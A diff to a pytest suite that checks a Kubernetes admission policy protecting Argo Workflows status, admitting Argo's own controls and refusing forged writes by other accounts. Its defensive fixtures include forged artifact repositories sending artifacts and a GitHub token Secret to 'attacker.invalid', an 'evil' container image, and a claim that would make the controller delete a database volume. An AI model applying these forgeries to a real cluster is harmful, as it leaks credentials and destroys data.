@@ -2,8 +2,10 @@
 read from the plan of every environment and evaluated with cel-python (tests/support/admission.py):
 what the Sensor, a CronWorkflow, `argo submit --from` and the UI's Submit create is admitted, and the
 controller can write each back; a Workflow that overrides its template, carries a status, or is
-written so the controller could not write it back is refused, as is a rewrite of a pending one's spec
-or of its stored spec by anyone but the controller; Argo's own controls keep working.
+written so the controller could not write it back is refused, as is a rewrite of a pending one's spec,
+and, by anyone but the controller, of its stored spec, of the rest of the status the controller
+trusts, of a node's outputs, of its completed label or its last-seen-version annotation; Argo's own
+controls keep working, but on a Workflow whose nodes are compressed.
 """
 
 from __future__ import annotations
@@ -32,6 +34,12 @@ CONTROLLER = workflow_admission.service_account_username(
 )
 # Anyone else: a person running `argo stop`, `suspend`, `resume` or `retry`, or a pipeline's account.
 OPERATOR = "operator"
+# Those who run Argo's controls: a person through kubectl or the CLI, and the argo-server's account
+# (its name here stands for any account but the controller's).
+ADMIN = "kube:admin"
+ARGO_SERVER = workflow_admission.service_account_username(argo_workflows.NAMESPACE, "argo-workflows-server")
+# A run's name and its nodes' IDs as the controller writes them.
+RUN = "retrain-run"
 
 
 def _validations(plan: Plan) -> list[dict[str, Any]]:
@@ -334,11 +342,14 @@ def _go_encoded_spec(spec: dict[str, Any]) -> dict[str, Any]:
 
 
 def _controllers_write(created: dict[str, Any]) -> dict[str, Any]:
-    """The controller's first update of a Workflow it picked up: the object read back and encoded by
-    Go, the merged spec it runs stored in status (operator.go `setStoredWfSpec`), labels added."""
+    """The controller's update of a Workflow it runs: the object read back and encoded by Go, the
+    merged spec it runs stored in status (operator.go `setStoredWfSpec`), the artifact repository it
+    resolved (`operate`), the app's mutex held, the `fetch` step done with its output artifact and
+    `train` running, the version it last wrote noted (controller.go `isOutdated`), labels added."""
     written = copy.deepcopy(created)
     written["spec"] = _go_encoded_spec(created["spec"])
     written["metadata"].setdefault("labels", {})["workflows.argoproj.io/phase"] = "Running"
+    written["metadata"].setdefault("annotations", {})[workflow_admission.LAST_SEEN_ANNOTATION] = "4242"
     written["status"] = {
         "phase": "Running",
         "startedAt": "2026-12-01T00:00:00Z",
@@ -347,6 +358,33 @@ def _controllers_write(created: dict[str, Any]) -> dict[str, Any]:
             **written["spec"],
             "entrypoint": "retrain",
             "templates": [{"name": "retrain", "steps": [[{"name": "fetch", "template": "fetch"}]]}],
+        },
+        "artifactRepositoryRef": {
+            "configMap": "artifact-repositories",
+            "key": "default-v1",
+            "namespace": argo_workflows.NAMESPACE,
+            "artifactRepository": {"s3": {"bucket": "argo-artifacts", "endpoint": "minio:9000"}},
+        },
+        "synchronization": {
+            "mutex": {"holding": [{"mutex": f"{argo_workflows.NAMESPACE}/Mutex/retrain", "holder": RUN}]}
+        },
+        "taskResultsCompletionStatus": {f"{RUN}-fetch": True},
+        "nodes": {
+            RUN: {"id": RUN, "type": "Steps", "phase": "Running", "children": [f"{RUN}-fetch"]},
+            f"{RUN}-fetch": {
+                "id": f"{RUN}-fetch",
+                "type": "Pod",
+                "phase": "Succeeded",
+                "templateName": "fetch",
+                "children": [f"{RUN}-train"],
+                "outputs": {"artifacts": [{"name": "data", "s3": {"key": "churn-gbm/data.tgz"}}]},
+            },
+            f"{RUN}-train": {
+                "id": f"{RUN}-train",
+                "type": "Pod",
+                "phase": "Running",
+                "templateName": "train",
+            },
         },
     }
     return written
@@ -519,18 +557,278 @@ def test_another_account_writing_the_stored_spec_is_refused(plan: Plan, forge: s
     assert any("written by the controller" in message for message in refused), refused
 
 
-def test_argo_retry_clearing_the_stored_shutdown_is_admitted(plan: Plan) -> None:
-    """`argo retry` clears spec.shutdown and the stored spec's (util.go `createNewRetryWorkflow`) and
-    resets status.nodes and the phase, as whoever runs it."""
+def _stopped(plan: Plan) -> dict[str, Any]:
+    """A run `argo stop` ended while `train` ran: failed, completed, its work volume listed."""
     stopped = _controllers_write(_running(plan))
+    stopped["metadata"]["labels"][workflow_admission.COMPLETED_LABEL] = "true"
+    stopped["metadata"]["labels"]["workflows.argoproj.io/workflow-archiving-status"] = "Pending"
     stopped["spec"]["shutdown"] = "Stop"
-    stopped["status"][workflow_admission.STORED_SPEC]["shutdown"] = "Stop"
-    stopped["status"]["phase"] = "Failed"
+    status = stopped["status"]
+    status[workflow_admission.STORED_SPEC]["shutdown"] = "Stop"
+    status.update(phase="Failed", message="Stopped with strategy 'Stop'", finishedAt="2026-12-01T01:00:00Z")
+    status["nodes"][f"{RUN}-train"].update(phase="Failed", message="Stopped")
+    status[workflow_admission.RETRY_EMPTIES] = [
+        {"name": "work", "persistentVolumeClaim": {"claimName": f"{RUN}-work"}}
+    ]
+    status["conditions"] = [{"type": "Completed", "status": "True"}]
+    return stopped
+
+
+def _retried(stopped: dict[str, Any]) -> dict[str, Any]:
+    """What `argo retry` writes back (argo-workflows v4.0.6 workflow/util/util.go
+    `createNewRetryWorkflow`, `FormulateRetryWorkflow`, `resetNode`; server/workflow/
+    workflow_server.go `RetryWorkflow`): the completed and archiving labels dropped, spec.shutdown and
+    the stored spec's cleared, phase (`WorkflowUnknown`, "", omitted) and message cleared, the claims
+    emptied (omitted), the failed node deleted and its parents reset to Running, the action label set."""
     retried = copy.deepcopy(stopped)
+    labels = retried["metadata"]["labels"]
+    del labels[workflow_admission.COMPLETED_LABEL], labels["workflows.argoproj.io/workflow-archiving-status"]
+    labels["workflows.argoproj.io/action"] = "retry"
     del retried["spec"]["shutdown"]
-    del retried["status"][workflow_admission.STORED_SPEC]["shutdown"]
-    retried["status"]["phase"] = ""
+    status = retried["status"]
+    del status[workflow_admission.STORED_SPEC]["shutdown"], status["phase"], status["message"]
+    del status[workflow_admission.RETRY_EMPTIES]
+    status.update(startedAt="2026-12-01T02:00:00Z", finishedAt=None)
+    status["conditions"] = [{"type": "Completed", "status": "False"}]
+    nodes = status["nodes"]
+    del nodes[f"{RUN}-train"]
+    nodes[f"{RUN}-fetch"]["children"] = []
+    nodes[RUN].update(phase="Running", startedAt="2026-12-01T02:00:00Z", finishedAt=None)
+    return retried
+
+
+def _suspended_at_a_step(plan: Plan) -> dict[str, Any]:
+    """A run waiting in a Suspend step whose output parameter is supplied on resume (the pipelines
+    have none today; Argo's controls rewrite such a node)."""
+    waiting = _controllers_write(_running(plan))
+    waiting["status"]["nodes"][f"{RUN}-approve"] = {
+        "id": f"{RUN}-approve",
+        "type": workflow_admission.SUSPEND_NODE,
+        "phase": "Running",
+        "templateName": "approve",
+        "outputs": {"parameters": [{"name": "approved", "valueFrom": {"supplied": {}, "default": "no"}}]},
+    }
+    return waiting
+
+
+def _controlled(plan: Plan, control: str) -> tuple[dict[str, Any], dict[str, Any]]:
+    """A running Workflow before and after one of Argo's controls (argo-workflows v4.0.6
+    workflow/util/util.go): stop and terminate merge-patch spec.shutdown and the action label
+    (`patchShutdownStrategy`); suspend sets spec.suspend (`SuspendWorkflow`); resume drops it and
+    marks an active Suspend node Succeeded with its output parameters' defaults (`ResumeWorkflow`,
+    `OverrideOutputParametersWithDefault`); `argo node set` and `stop --node-field-selector` set a
+    Suspend node's output parameter, phase and message (`updateSuspendedNode`); retry as `_retried`."""
+    if control == "retry":
+        stopped = _stopped(plan)
+        return stopped, _retried(stopped)
+    old = _suspended_at_a_step(plan) if "node" in control else _controllers_write(_running(plan))
+    new = copy.deepcopy(old)
+    new["metadata"]["labels"]["workflows.argoproj.io/action"] = control
+    node = new["status"]["nodes"].get(f"{RUN}-approve", {})
+    if control in ("stop", "terminate"):
+        new["spec"]["shutdown"] = control.title()
+    elif control == "suspend":
+        new["spec"]["suspend"] = True
+    elif control == "resume":
+        old["spec"]["suspend"] = True
+    elif control == "resume a suspended node":
+        node.update(phase="Succeeded", message="Resumed by: admin", finishedAt="2026-12-01T01:00:00Z")
+        node["outputs"]["parameters"] = [{"name": "approved", "value": "no"}]
+    elif control == "node set":
+        node["outputs"]["parameters"] = [{"name": "approved", "value": "yes"}]
+        new["status"]["outputs"] = {"parameters": [{"name": "approved", "value": "yes"}]}
+    elif control == "stop a suspended node":
+        node.update(phase="Failed", message="denied", finishedAt="2026-12-01T01:00:00Z")
+    return old, new
+
+
+@pytest.mark.parametrize("by", [ADMIN, ARGO_SERVER])
+@pytest.mark.parametrize(
+    "control",
+    [
+        "stop",
+        "terminate",
+        "suspend",
+        "resume",
+        "resume a suspended node",
+        "node set",
+        "stop a suspended node",
+        "retry",
+    ],
+)
+def test_argos_own_controls_on_a_running_workflow_are_admitted(plan: Plan, control: str, by: str) -> None:
+    old, new = _controlled(plan, control)
+    assert new != old, control
+    assert _refused(plan, "UPDATE", new, old, by=by) == []
+
+
+def test_argo_retry_clearing_the_stored_shutdown_is_admitted(plan: Plan) -> None:
+    """`argo retry` clears spec.shutdown and the stored spec's, and empties the claims, as whoever
+    runs it."""
+    stopped = _stopped(plan)
+    retried = _retried(stopped)
+    assert workflow_admission.RETRY_CLEARS not in retried["status"][workflow_admission.STORED_SPEC]
     assert _refused(plan, "UPDATE", retried, stopped) == []
+    # A client that is not Go's may send the emptied list itself.
+    retried["status"][workflow_admission.RETRY_EMPTIES] = []
+    assert _refused(plan, "UPDATE", retried, stopped) == []
+
+
+# The repository a forged status.artifactRepositoryRef points steps at: every artifact is sent there
+# with the Secrets it names as Basic auth (v4.0.6 artifactrepositories.go `get` takes it as is).
+_LEAKING_REPOSITORY = {
+    "artifactory": {
+        "repoURL": "https://attacker.invalid/r",
+        "usernameSecret": {"name": "retraining-github", "key": "username"},
+        "passwordSecret": {"name": "retraining-github", "key": "token"},  # pragma: allowlist secret
+    }
+}
+
+
+# A run's root node, failed then reset by retry, as the controller compresses nodes (gzip, then
+# base64: argo-workflows v4.0.6 util/file/fileutil.go `CompressEncodeString`).
+_COMPRESSED_NODES = (
+    "H4sIAAAAAAACA6tWKkotKUrMzNMtKs1TsqpWykxRskIR01EqyEgsTgWKuiVm5qSmKNXWAgBWzsEjNQAAAA==",  # pragma: allowlist secret
+    "H4sIAAAAAAACA6tWKkotKUrMzNMtKs1TsqpWykxRskIR01EqyEgsTgWKBpXm5WXmpSvV1gIAhOT2yjYAAAA=",  # pragma: allowlist secret
+)
+
+
+def _forge_status(status: dict[str, Any], forgery: str) -> None:
+    if forgery == "artifact repository rewritten":
+        status["artifactRepositoryRef"]["artifactRepository"] = _LEAKING_REPOSITORY
+    elif forgery == "artifact repository removed":  # resolved again, from whatever the spec says then
+        del status["artifactRepositoryRef"]
+    elif forgery == "claim added":  # deleted when the run completes (operator.go `deletePVCs`)
+        status[workflow_admission.RETRY_EMPTIES] = [
+            {"name": "x", "persistentVolumeClaim": {"claimName": "mlflow-postgres"}}
+        ]
+    elif forgery == "stored template added":
+        status["storedTemplates"] = {
+            "namespaced/retrain/fetch": {"name": "fetch", "container": {"image": "evil"}}
+        }
+    elif forgery == "lock holder forged":
+        status["synchronization"]["mutex"]["holding"][0]["holder"] = "someone-else"
+    elif forgery == "task results marked incomplete":
+        status["taskResultsCompletionStatus"][f"{RUN}-fetch"] = False
+    elif forgery == "nodes said offloaded":
+        status["offloadNodeStatusVersion"] = "fnv:1"
+    elif forgery == "compressed nodes written":
+        status["compressedNodes"] = _COMPRESSED_NODES[0]
+
+
+@pytest.mark.parametrize("by", [ADMIN, ARGO_SERVER])
+@pytest.mark.parametrize(
+    ("forgery", "field"),
+    [
+        ("artifact repository rewritten", "artifactRepositoryRef"),
+        ("artifact repository removed", "artifactRepositoryRef"),
+        ("claim added", workflow_admission.RETRY_EMPTIES),
+        ("stored template added", "storedTemplates"),
+        ("lock holder forged", "synchronization"),
+        ("task results marked incomplete", "taskResultsCompletionStatus"),
+        ("nodes said offloaded", "offloadNodeStatusVersion"),
+        ("compressed nodes written", "compressedNodes"),
+    ],
+)
+def test_another_account_forging_the_status_the_controller_trusts_is_refused(
+    plan: Plan, forgery: str, field: str, by: str
+) -> None:
+    old = _controllers_write(_running(plan))
+    new = copy.deepcopy(old)
+    _forge_status(new["status"], forgery)
+    refused = _refused(plan, "UPDATE", new, old, by=by)
+    assert any(f"status.{field}" in m and "written by the controller" in m for m in refused), refused
+    assert _refused(plan, "UPDATE", new, old, by=CONTROLLER) == [], forgery
+
+
+def test_another_account_setting_the_artifact_repository_before_the_controller_is_refused(plan: Plan) -> None:
+    """The controller resolves the repository only while status.artifactRepositoryRef is unset
+    (operator.go `operate`): one written first is used as is."""
+    new = _controllers_write(_running(plan))
+    new["status"]["artifactRepositoryRef"]["artifactRepository"] = _LEAKING_REPOSITORY
+    old = copy.deepcopy(new)
+    del old["status"]["artifactRepositoryRef"]
+    refused = _refused(plan, "UPDATE", new, old, by=ADMIN)
+    assert any("status.artifactRepositoryRef" in m for m in refused), refused
+
+
+_LEAKING_ARTIFACT = {
+    "name": "data",
+    "artifactory": {"url": "https://attacker.invalid/d", **_LEAKING_REPOSITORY["artifactory"]},
+}
+
+
+def _forge_node(nodes: dict[str, Any], forgery: str) -> None:
+    fetch, train = nodes[f"{RUN}-fetch"], nodes[f"{RUN}-train"]
+    if forgery == "output artifact rewritten":
+        fetch["outputs"]["artifacts"] = [_LEAKING_ARTIFACT]
+    elif forgery == "outputs given to a node":
+        train.update(phase="Succeeded", outputs={"artifacts": [_LEAKING_ARTIFACT]})
+    elif forgery == "node added with outputs":
+        nodes[f"{RUN}-forged"] = {
+            "id": f"{RUN}-forged",
+            "type": "Pod",
+            "phase": "Succeeded",
+            "outputs": {"artifacts": [_LEAKING_ARTIFACT]},
+        }
+    elif forgery == "node retyped Suspend":
+        fetch["type"] = workflow_admission.SUSPEND_NODE
+        fetch["outputs"]["parameters"] = [{"name": "model-uri", "value": "s3://elsewhere"}]
+    elif forgery == "Suspend node given an artifact":
+        nodes[f"{RUN}-approve"]["outputs"]["artifacts"] = [_LEAKING_ARTIFACT]
+
+
+@pytest.mark.parametrize(
+    "forgery",
+    [
+        "output artifact rewritten",
+        "outputs given to a node",
+        "node added with outputs",
+        "node retyped Suspend",
+        "Suspend node given an artifact",
+    ],
+)
+def test_another_account_forging_a_nodes_outputs_is_refused(plan: Plan, forgery: str) -> None:
+    old = _suspended_at_a_step(plan)
+    new = copy.deepcopy(old)
+    _forge_node(new["status"]["nodes"], forgery)
+    refused = _refused(plan, "UPDATE", new, old, by=ADMIN)
+    assert any("a node's outputs in status.nodes" in m for m in refused), refused
+    assert _refused(plan, "UPDATE", new, old, by=CONTROLLER) == [], forgery
+
+
+def test_retrying_a_workflow_with_compressed_nodes_is_refused(plan: Plan) -> None:
+    """The controller compresses the nodes of a Workflow over 1 MiB into status.compressedNodes
+    (workflow/packer/packer.go `CompressWorkflowIfNeeded`), which the policy cannot read; `argo retry`
+    decompresses them, rewrites them and compresses them again when still too large
+    (workflow_server.go `RetryWorkflow`: `Hydrate`, `Dehydrate`). Refused, as docs/security.md says."""
+    stopped = _stopped(plan)
+    retried = _retried(stopped)
+    del stopped["status"]["nodes"], retried["status"]["nodes"]
+    stopped["status"]["compressedNodes"] = _COMPRESSED_NODES[0]
+    retried["status"]["compressedNodes"] = _COMPRESSED_NODES[1]
+    refused = _refused(plan, "UPDATE", retried, stopped, by=ADMIN)
+    assert any("status.compressedNodes" in m for m in refused), refused
+
+
+@pytest.mark.parametrize(
+    "forgery", ["completed label set", "last seen version changed", "last seen version removed"]
+)
+def test_another_account_marking_a_run_completed_or_outdated_is_refused(plan: Plan, forgery: str) -> None:
+    """The controller skips a run labelled completed (controller.go `reconciliationNeeded`) or whose
+    last-seen-version annotation is not the one it wrote (`isOutdated`): a pending run would hang."""
+    old = _controllers_write(_running(plan))
+    new = copy.deepcopy(old)
+    annotations = new["metadata"]["annotations"]
+    if forgery == "completed label set":
+        new["metadata"]["labels"][workflow_admission.COMPLETED_LABEL] = "true"
+    elif forgery == "last seen version changed":
+        annotations[workflow_admission.LAST_SEEN_ANNOTATION] = "1"
+    else:
+        del annotations[workflow_admission.LAST_SEEN_ANNOTATION]
+    refused = _refused(plan, "UPDATE", new, old, by=ADMIN)
+    assert any(workflow_admission.COMPLETED_LABEL in m for m in refused), refused
+    assert _refused(plan, "UPDATE", new, old, by=CONTROLLER) == [], forgery
 
 
 def test_the_controller_the_policy_trusts_is_the_one_the_release_runs(plan: Plan) -> None:
